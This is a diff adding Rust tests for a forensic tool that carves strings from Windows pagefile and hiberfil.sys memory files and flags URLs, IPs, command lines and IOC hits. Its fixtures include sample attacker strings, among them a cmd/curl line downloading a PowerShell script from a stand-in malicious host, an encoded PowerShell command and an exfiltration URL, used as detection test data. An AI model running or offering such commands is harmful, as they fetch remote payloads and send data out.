@@ -0,0 +1,188 @@
+#[cfg(test)]
+mod tests {
+    use std::collections::HashMap;
+    use std::fs;
+    use tempfile::TempDir;
+    use crate::configs::config::{MainArgs, Wiskers};
+    use crate::tests::create_main_args;
+    use crate::iocs::scanner::Encoding;
+    use crate::ops::builtin_ops;
+    use crate::parsers::memory::{self, CarvedString, StringCarver, ValueExtractor, ValueKind, XpressBlock};
+
+    fn utf16(text: &str) -> Vec<u8> {
+        text.encode_utf16().flat_map(|c| c.to_le_bytes()).collect()
+    }
+
+    /// an Xpress block of one page, with the data as literals of plain LZ77
+    fn xpress_block(data: &[u8]) -> Vec<u8> {
+        let mut compressed = Vec::new();
+        for group in data.chunks(32) {
+            compressed.extend([0u8; 4]);
+            compressed.extend(group);
+        }
+        let mut block = b"\x81\x81xpress".to_vec();
+        block.extend((((compressed.len() as u32) - 1) << 10).to_le_bytes());
+        block.resize(0x20, 0);
+        block.extend(&compressed);
+        block.resize(block.len().next_multiple_of(8), 0);
+        block
+    }
+
+    /// Test ASCII and UTF-16LE strings are carved at either alignment, across the chunks fed
+    #[test]
+    fn test_string_carver() {
+        let mut data = b"\x00\x01short\x00a longer ascii string\x02".to_vec();
+        data.push(0xff);
+        data.extend(utf16("odd offset unicode"));
+        data.extend([0x00, 0x01]);
+        data.extend(utf16("even offset unicode"));
+        let mut carved = Vec::new();
+        let mut carver = StringCarver::new(8, None, 100);
+        for chunk in data.chunks(5) {
+            carver.feed(chunk, |c| carved.push(c));
+        }
+        carver.finish(|c| carved.push(c));
+        let found: Vec<(u64, Encoding, &str)> = carved.iter().map(|c| (c.offset, c.encoding, c.text.as_str())).collect();
+        assert_eq!(found, vec![
+            (108, Encoding::Ascii, "a longer ascii string"),
+            (131, Encoding::Utf16le, "odd offset unicode"),
+            (169, Encoding::Utf16le, "even offset unicode"),
+        ]);
+    }
+
+    /// Test the URLs, IPs, domains, emails and command lines of a string are extracted with
+    /// their offsets, skipping version numbers and file names
+    #[test]
+    fn test_extract_values() {
+        let extractor = ValueExtractor::new().unwrap();
+        let carved = CarvedString {
+            offset: 1000,
+            block: None,
+            encoding: Encoding::Utf16le,
+            text: r#"C:\Windows\System32\cmd.exe /c curl http://evil-cdn.com/a.ps1 -o x.ps1 & ping 10.1.2.3 v1.2.3.4.5 admin@corp.example.com ntdll.dll"#.to_string(),
+        };
+        let values: Vec<(ValueKind, u64, String)> = extractor.extract(&carved).into_iter()
+            .map(|v| (v.kind, v.offset, v.value))
+            .collect();
+        assert_eq!(values, vec![
+            (ValueKind::Url, 1000 + 36 * 2, "http://evil-cdn.com/a.ps1".to_string()),
+            (ValueKind::Email, 1000 + 98 * 2, "admin@corp.example.com".to_string()),
+            (ValueKind::Ip, 1000 + 78 * 2, "10.1.2.3".to_string()),
+            (ValueKind::Domain, 1000 + 43 * 2, "evil-cdn.com".to_string()),
+            (ValueKind::Command, 1000, carved.text.clone()),
+        ]);
+
+        let carved = CarvedString { offset: 0, block: None, encoding: Encoding::Ascii, text: "loaded kernel32.dll from disk".to_string() };
+        assert!(extractor.extract(&carved).is_empty());
+    }
+
+    /// Test the Xpress blocks of a hibernation file are decompressed and carved, along with
+    /// the pagefile, with the values and IOC hits written
+    #[test]
+    fn test_memory_strings() {
+        let temp_dir = TempDir::new().unwrap();
+        let out_path = temp_dir.path().join("out");
+        let input = temp_dir.path().join("collection");
+        fs::create_dir_all(&input).unwrap();
+        let mut pagefile = vec![0u8; 64];
+        pagefile.extend(utf16("powershell -enc SQBFAFgA"));
+        pagefile.extend([0u8; 16]);
+        pagefile.extend(b"beacon to 203.0.113.7:443");
+        fs::write(input.join("PAGEFILE.SYS"), &pagefile).unwrap();
+
+        let mut page = vec![0u8; 16];
+        page.extend(utf16("https://exfil.io/upload"));
+        page.extend([0u8; 8]);
+        let block = xpress_block(&page);
+        assert_eq!(XpressBlock::parse(&block, 0).unwrap().pages, 1);
+        let mut hiberfil = b"HIBR header text\x00".to_vec();
+        hiberfil.resize(256, 0);
+        let block_offset = hiberfil.len() as u64;
+        hiberfil.extend(&block);
+        hiberfil.extend(b"\x00raw after the block\x00");
+        fs::write(input.join("hiberfil.sys"), &hiberfil).unwrap();
+        assert_eq!(memory::find_xpress_blocks(&input.join("hiberfil.sys")).unwrap().len(), 1);
+
+        let ioc_file = temp_dir.path().join("iocs.txt");
+        fs::write(&ioc_file, "exfil.io\n203.0.113.7\n").unwrap();
+        let main_args = MainArgs { ioc_file: ioc_file.to_string_lossy().to_string(), ..create_main_args(temp_dir.path(), &out_path, "2024-01-01", "2024-12-31") };
+        let data_paths = HashMap::from([("base".to_string(), input.to_string_lossy().to_string())]);
+        let wisker: Wiskers = serde_yaml::from_str(
+            "name: memory_strings\nbinary: 'builtin:memory_strings'\nargs: '--min-length 6'\noutfolder: Memory\noutfile: strings.csv\ninput: base\n"
+        ).unwrap();
+        let msg = builtin_ops::run_builtin(&wisker, &data_paths, &main_args).unwrap();
+        assert_eq!(msg, "Memory strings: 5 from 2 files, with 1 URLs, 1 IPs, 1 domains, 0 emails and 1 command lines, \
+            2 IOC hits (0 suppressed by the allowlist) and 0 Xpress blocks that failed to decompress");
+
+        let memory = out_path.join("Memory");
+        let strings = fs::read_to_string(memory.join("strings.csv")).unwrap();
+        let rows: Vec<&str> = strings.lines().skip(1).map(|l| l.split_once(',').unwrap().1).collect();
+        assert_eq!(rows, vec![
+            "64,,utf16le,powershell -enc SQBFAFgA".to_string(),
+            "128,,ascii,beacon to 203.0.113.7:443".to_string(),
+            "0,,ascii,HIBR header text".to_string(),
+            format!("16,{block_offset},utf16le,https://exfil.io/upload"),
+            format!("{},,ascii,raw after the block", block_offset + block.len() as u64 + 1),
+        ]);
+        let urls = fs::read_to_string(memory.join("strings_urls.csv")).unwrap();
+        assert!(urls.starts_with("File,Offset,XpressBlock,Encoding,Value\n"), "{urls}");
+        assert!(urls.contains(&format!(",16,{block_offset},utf16le,https://exfil.io/upload")), "{urls}");
+        let commands = fs::read_to_string(memory.join("strings_commands.csv")).unwrap();
+        assert!(commands.contains(",64,,utf16le,powershell -enc SQBFAFgA"), "{commands}");
+
+        let mut reader = csv::Reader::from_path(out_path.join("IOC_Findings").join(memory::IOC_FILE)).unwrap();
+        assert_eq!(reader.headers().unwrap().get(6), Some("XpressBlock"));
+        let hits: Vec<(String, String, String, String)> = reader.records()
+            .map(|r| r.unwrap())
+            .map(|r| (r[0].to_string(), r[5].to_string(), r[6].to_string(), r[7].to_string()))
+            .collect();
+        // the hit in the block is at its offset in the decompressed data
+        assert_eq!(hits, vec![
+            ("203.0.113.7".to_string(), "138".to_string(), String::new(), "ascii".to_string()),
+            ("exfil.io".to_string(), "32".to_string(), block_offset.to_string(), "utf16le".to_string()),
+        ]);
+        assert!(!fs::read_to_string(&main_args.out_log).unwrap_or_default().contains("No Xpress blocks"));
+    }
+
+    /// Test a hibernation file without Xpress blocks, as of Windows 8 and later, is carved
+    /// as raw bytes with a warning logged
+    #[test]
+    fn test_hiberfil_without_xpress_blocks() {
+        let temp_dir = TempDir::new().unwrap();
+        let out_path = temp_dir.path().join("out");
+        let input = temp_dir.path().join("collection");
+        fs::create_dir_all(&input).unwrap();
+        let mut hiberfil = b"HIBR header text\x00".to_vec();
+        hiberfil.resize(4096, 0);
+        fs::write(input.join("hiberfil.sys"), &hiberfil).unwrap();
+
+        let main_args = create_main_args(temp_dir.path(), &out_path, "2024-01-01", "2024-12-31");
+        let data_paths = HashMap::from([("base".to_string(), input.to_string_lossy().to_string())]);
+        let wisker: Wiskers = serde_yaml::from_str(
+            "name: memory_strings\nbinary: 'builtin:memory_strings'\nargs: ''\noutfolder: Memory\noutfile: strings.csv\ninput: base\n"
+        ).unwrap();
+        let msg = builtin_ops::run_builtin(&wisker, &data_paths, &main_args).unwrap();
+        assert!(msg.starts_with("Memory strings: 1 from 1 files"), "{msg}");
+        let log = fs::read_to_string(&main_args.out_log).unwrap();
+        assert!(log.contains(&format!("[!] No Xpress blocks found in {}, so it is carved as raw bytes", input.join("hiberfil.sys").display())), "{log}");
+    }
+
+    /// Test a data source without memory files is logged and isn't an error
+    #[test]
+    fn test_memory_strings_without_memory_files() {
+        let temp_dir = TempDir::new().unwrap();
+        let out_path = temp_dir.path().join("out");
+        let input = temp_dir.path().join("collection");
+        fs::create_dir_all(&input).unwrap();
+
+        let main_args = create_main_args(temp_dir.path(), &out_path, "2024-01-01", "2024-12-31");
+        let data_paths = HashMap::from([("base".to_string(), input.to_string_lossy().to_string())]);
+        let wisker: Wiskers = serde_yaml::from_str(
+            "name: memory_strings\nbinary: 'builtin:memory_strings'\nargs: '--values-only'\noutfolder: Memory\noutfile: strings.csv\ninput: base\n"
+        ).unwrap();
+        let msg = builtin_ops::run_builtin(&wisker, &data_paths, &main_args).unwrap();
+        assert!(msg.starts_with("No pagefile.sys, swapfile.sys or hiberfil.sys found in"), "{msg}");
+        let log = fs::read_to_string(&main_args.out_log).unwrap();
+        assert!(log.contains("so no memory strings were carved"), "{log}");
+    }
+}